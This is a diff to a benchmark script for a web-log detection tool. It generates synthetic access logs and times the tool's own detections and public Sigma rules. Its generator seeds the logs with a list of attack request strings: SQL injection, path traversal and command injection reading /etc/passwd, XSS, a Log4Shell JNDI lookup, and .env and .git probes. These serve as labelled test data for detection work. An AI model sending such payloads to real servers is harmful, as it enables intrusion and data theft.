@@ -1,6 +1,6 @@
-// Detection: precision and recall of request scoring on labelled payloads and on a rule set's own tests, and the cost of all
-// our methods and rules (with the public webserver rules, where they are at hand) over N request events (default 10,000,000).
-//   npm run bench detect [EVENTS] [THREADS]
+// Detection: precision and recall of request scoring on labelled payloads and on a rule set's own tests, and the cost of all our methods and rules
+// and the public rules for web servers (where they are at hand) over N lines (default 10,000,000), beside the time the same process needs to read them.
+//   npm run bench detect [EVENTS] [THREADS] [steps]
 import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
@@ -12,12 +12,12 @@ const root = path.join(path.dirname(fileURLToPath(import.meta.url)), '..');
 const data = path.join(root, '..', 'shared', 'data');
 const built = file => import(pathToFileURL(path.join(root, 'dist', file)).href);
 
-export async function bench([events = '10000000', threads = '2']) {
+export async function bench([events = '10000000', threads = '2', steps = '']) {
   const { scoreRequest } = await built('detections/index.js');
   payloads(scoreRequest);
   coreRules(scoreRequest);
   if (Number(events) > 0) {
-    const child = spawnSync(process.execPath, ['--max-old-space-size=2048', fileURLToPath(import.meta.url), events, threads], {
+    const child = spawnSync(process.execPath, ['--max-old-space-size=2048', fileURLToPath(import.meta.url), events, threads, steps], {
       encoding: 'utf8',
       stdio: ['ignore', 'inherit', 'inherit'],
     });
@@ -101,65 +101,167 @@ function coreRules(scoreRequest) {
   }
 }
 
-async function cost(events, threads) {
-  const { Engine, sql } = await built('engine/index.js');
-  const { eventColumns } = await built('events/index.js');
-  const { detect } = await built('detections/index.js');
+/** The measured process: the same file read into events and then detected, with the whole stage and all public rules for web servers. */
+async function cost(events, threads, steps) {
+  const load = name => built(`${name}/index.js`);
+  const [{ collectEvidence }, { readEvents }, { CaseStore }, { Engine, sql }, { quietEffects }, { detect }] = await Promise.all(
+    ['evidence', 'events', 'case', 'engine', 'base', 'detections'].map(load),
+  );
   const { readRuleFolder } = await built('detections/sigma/rule-folder.js');
   const { runRules } = await built('detections/sigma/run.js');
-  const dir = path.join(os.tmpdir(), 'tadasu-bench');
+  const dir = path.join(os.tmpdir(), 'tadasu-bench', 'detect');
   fs.mkdirSync(dir, { recursive: true });
-  const file = path.join(dir, `requests-${events}.parquet`);
-  const open = () => Engine.open({ file: ':memory:', threads, memory: '2GB', tempDirectory: dir });
-  if (!fs.existsSync(file)) {
-    const engine = await open();
-    const own = {
-      class: sql`1`,
-      time_us: sql`1700000000000000 + i * 40000`,
-      src_ip: sql`'198.' || (u % 200) || '.' || (u // 200 % 250) || '.' || (u // 50000)`,
-      session: sql`case when u % 3 = 0 then md5(u::varchar) end`,
-      user_agent: sql`'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/' || (90 + u % 40) || '.0 Safari/537.36'`,
-      method: sql`case when h % 11 = 0 then 'POST' else 'GET' end`,
-      path: sql`case h % 9 when 0 then '/' when 1 then '/login' when 2 then '/customers/' || (g % 300000) when 3 then '/static/app.css' when 4 then '/search' when 5 then '/customers/' || (g % 300000) || '/claims' else '/menu' end`,
-      query: sql`case when h % 9 = 4 then 'q=' || md5(g::varchar)[:6] when h % 9 = 0 then null when h % 50 = 7 then 'page=' || (g % 20) end`,
-      status: sql`case when h % 97 = 0 then 404 else 200 end`,
-      bytes_out: sql`200 + g % 9000`,
-      referer: sql`case when h % 2 = 0 then 'https://www.example.jp/menu' end`,
-    };
-    const columns = eventColumns.map(c =>
-      c.name === 'target'
-        ? sql`path || coalesce('?' || query, '') as target`
-        : c.name in own
-          ? sql.id(c.name)
-          : sql`${sql.raw(`null::${c.type === 'str' ? 'varchar' : 'bigint'}`)} as ${sql.id(c.name)}`,
-    );
-    await engine.run(
-      'bench.make',
-      sql`copy (select 1099511627776 + i * 16 as event_id, 1 as file_no, 'web' as evidence_id, null::varchar as system_id, 'web-access' as source_kind, time_us as at_us, time_us as start_lo_us, time_us as start_hi_us,
-      time_us as end_lo_us, time_us as end_hi_us, ${sql.join(columns)} from (select i, ${sql.join(Object.entries(own).map(([k, v]) => sql`${v} as ${sql.id(k)}`))} from
-      (select i, hash(i) % 1000003 as h, hash(i + 7) % 999983 as g, hash(i + 3) % 60000 as u from range(${sql.lit(events)}::bigint) t(i)))) to ${sql.lit(file)} (format parquet)`,
-    );
-    engine.close();
-  }
-  const engine = await open();
-  await engine.run('bench.view', sql`create view event as select * from read_parquet(${sql.lit(file)})`);
-  const effects = { now: () => 0, log() {}, progress() {}, lang: 'en', threads };
+  const log = path.join(dir, `requests-${events}.log`);
+  if (!fs.existsSync(log)) writeRequests(log, events);
+  const outDir = path.join(dir, 'out');
+  fs.rmSync(outDir, { recursive: true, force: true });
+  fs.mkdirSync(path.join(outDir, 'work'), { recursive: true });
+  fs.readFileSync(log); // into the page cache
+  const timings = new Map();
+  if (steps) timeSteps(Engine, timings);
+  const engine = await Engine.open({ file: path.join(outDir, 'work', 'events.duckdb'), threads, memory: '2GB', tempDirectory: path.join(outDir, 'work') });
+  const spec = {
+    id: 'web',
+    system: null,
+    kind: 'web-access',
+    files: [path.basename(log)],
+    format: '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i" "%{session}C"',
+    fields: null,
+    encoding: 'auto',
+    timezone: 'Asia/Tokyo',
+    clockOffsetUs: null,
+  };
+  const casePath = path.join(dir, 'case.yaml');
+  fs.writeFileSync(casePath, 'schema: tadasu.case/1\nid: bench\n');
+  const kase = {
+    file: { id: 'bench', evidence: [spec], datasets: [], systems: [] },
+    casePath,
+    caseDir: dir,
+    outDir,
+    engine,
+    store: new CaseStore(path.join(outDir, 'case.sqlite')),
+  };
+  const effects = { ...quietEffects, threads };
   const timed = async body => {
+    const cpu = process.cpuUsage();
     const start = process.hrtime.bigint();
     const value = await body();
-    return [Number(process.hrtime.bigint() - start) / 1e9, value];
+    const { user, system } = process.cpuUsage(cpu);
+    return { wall: Number(process.hrtime.bigint() - start) / 1e9, cpu: (user + system) / 1e6, value };
   };
-  const [own, summary] = await timed(() => detect({ engine }, effects));
-  console.log(`our detections  ${events} events, ${threads} threads: ${own.toFixed(2)} s, ${summary.detections} detections`);
-  const folder = path.join(data, 'sigma', 'rules', 'web');
+  const show = (name, t, more = '') => console.log(`${name.padEnd(16)}${t.wall.toFixed(2).padStart(7)} s   processor ${t.cpu.toFixed(2).padStart(7)} s   ${more}`);
+  await collectEvidence(kase, effects);
+  const ingest = await timed(() => readEvents(kase, effects));
+  show('ingest', ingest, `${ingest.value.events} events, ${threads} threads`);
+  const own = await timed(() => detect(kase, effects));
+  show('our detections', own, `${own.value.detections} detections, ${own.value.events} events`);
+  const all = { wall: own.wall, cpu: own.cpu };
+  const folder = path.join(data, 'sigma');
   if (fs.existsSync(folder)) {
     const read = readRuleFolder(folder);
-    const web = { ...read, rules: read.rules.filter(r => r.logsource.category === 'webserver') };
-    const [public_, run] = await timed(() => runRules(engine, web, null, true));
-    console.log(`public rules    ${web.rules.length} webserver rules: ${public_.toFixed(2)} s, ${run.matches.length} matches`);
-  }
-  console.log(`peak memory     ${(process.resourceUsage().maxRSS / 1024).toFixed(0)} MB`);
+    const web = { ...read, rules: read.rules.filter(r => r.logsource.category === 'webserver'), correlations: [] };
+    const shared = await timed(() => runRules(engine, web, null, true));
+    show('public rules', shared, `${web.rules.length} rules for web servers, ${shared.value.matches.length} matches, ${shared.value.unsupported.length} refused`);
+    all.wall += shared.wall;
+    all.cpu += shared.cpu;
+  } else console.log('public rules    not at hand');
+  show('detection', all, `${(all.wall / ingest.wall).toFixed(3)} of ingest by the clock, ${(all.cpu / ingest.cpu).toFixed(3)} by processor time (aim 0.25)`);
+  console.log(`peak memory     ${(process.resourceUsage().maxRSS / 1024).toFixed(0)} MB (aim 3072)`);
+  for (const [step, t] of [...timings].sort((a, b) => b[1] - a[1])) if (t > 0.05) console.log(`  ${t.toFixed(2).padStart(7)} s  ${step}`);
+  if (steps) console.log(`fingerprint     ${(await engine.row('bench.print', sql`select md5(string_agg(d::varchar, chr(10) order by detection_id)) as m from detection d`)).m}`);
   engine.close();
 }
 
-if (process.argv[1] === fileURLToPath(import.meta.url)) await cost(Number(process.argv[2]), Number(process.argv[3]));
+/** Processor time by the name of a step, of everything the engine does. */
+function timeSteps(Engine, timings) {
+  const spent = () => {
+    const { user, system } = process.cpuUsage();
+    return (user + system) / 1e6;
+  };
+  const add = (step, start) => timings.set(step, (timings.get(step) ?? 0) + spent() - start);
+  const { run, stream } = Engine.prototype;
+  Engine.prototype.run = async function (step, fragment) {
+    const start = spent();
+    try {
+      return await run.call(this, step, fragment);
+    } finally {
+      add(step, start);
+    }
+  };
+  Engine.prototype.stream = async function* (step, fragment) {
+    const batches = stream.call(this, step, fragment);
+    for (;;) {
+      const start = spent();
+      const { value, done } = await batches.next();
+      add(step, start);
+      if (done) return;
+      yield value;
+    }
+  };
+}
+
+/**
+ * A site of 60,000 visitors, a third with a session, who look at pages, records, search results and sign in; among a million requests about three
+ * hundred attacks of many kinds, a scanner and a walk over records. Deterministic.
+ */
+function writeRequests(file, n) {
+  let seed = 7;
+  const pick = max => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) % max;
+  const months = ['Sep', 'Oct', 'Nov'];
+  const two = v => String(v).padStart(2, '0');
+  const agents = Array.from({ length: 400 }, (_, i) => `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${90 + (i % 60)}.0.${i}.0 Safari/537.36`);
+  const attacks = [
+    "/search?q=1%27%20OR%20%271%27=%271",
+    '/search?q=1%27+UNION+SELECT+NULL,login,password+FROM+users--',
+    "/search?q=x'+AND+SLEEP(5)--+-",
+    '/download?file=../../../../etc/passwd',
+    '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
+    '/index.php?page=php://filter/convert.base64-encode/resource=config',
+    '/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd',
+    '/?x=${jndi:ldap://203.0.113.9/a}',
+    '/.env',
+    '/wp-login.php',
+    '/.git/config',
+    '/actuator/env',
+  ];
+  const out = fs.openSync(`${file}.tmp`, 'w');
+  let text = '';
+  for (let i = 0; i < n; i++) {
+    const at = Math.floor(i / 40);
+    const day = Math.floor(at / 86400);
+    const stamp = `${two((day % 28) + 1)}/${months[Math.floor(day / 28) % 3]}/2026:${two(Math.floor(at / 3600) % 24)}:${two(Math.floor(at / 60) % 60)}:${two(at % 60)} +0900`;
+    let who = pick(60_000);
+    const kind = pick(100);
+    let target;
+    let status = pick(97) === 0 ? 404 : 200;
+    let method = 'GET';
+    if (pick(3333) === 0) {
+      who = 60_000 + pick(20);
+      target = attacks[pick(attacks.length)];
+      status = pick(3) === 0 ? 200 : 404;
+    } else if (pick(5000) === 0) {
+      who = 60_020;
+      target = `/customers/${100_000 + Math.floor(i / 5000)}`;
+    } else if (kind < 12) target = '/';
+    else if (kind < 22) [target, method, status] = ['/login', pick(2) === 0 ? 'POST' : 'GET', pick(12) === 0 ? 401 : 200];
+    else if (kind < 34) target = `/customers/${pick(300_000)}`;
+    else if (kind < 45) target = '/static/app.css';
+    else if (kind < 56) target = `/search?q=${pick(1 << 24).toString(16)}`;
+    else if (kind < 58) target = `/search?q=%E3%83%9A%E3%83%83%E3%83%88+${pick(9999)}`;
+    else if (kind < 68) target = `/customers/${pick(300_000)}/claims`;
+    else if (kind < 71) target = `/api/v1/items?page=${pick(20)}&size=50`;
+    else if (kind < 72) target = `/reports/${pick(50)}/export.csv`;
+    else target = '/menu';
+    const agent = who === 60_020 ? 'curl/8.5.0' : agents[(who * 7) % 400];
+    text += `198.${who % 200}.${Math.floor(who / 200) % 250}.${Math.floor(who / 50_000)} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${200 + pick(9000)} "${kind < 50 ? 'https://www.example.jp/menu' : '-'}" "${agent}" "${who % 3 === 0 ? `s${(who * 2654435761) >>> 0}` : '-'}"\n`;
+    if (text.length > 1 << 22) {
+      fs.writeSync(out, text);
+      text = '';
+    }
+  }
+  fs.writeSync(out, text);
+  fs.closeSync(out);
+  fs.renameSync(`${file}.tmp`, file);
+}
+
+if (process.argv[1] === fileURLToPath(import.meta.url)) await cost(Number(process.argv[2]), Number(process.argv[3]), process.argv[4] === 'steps');
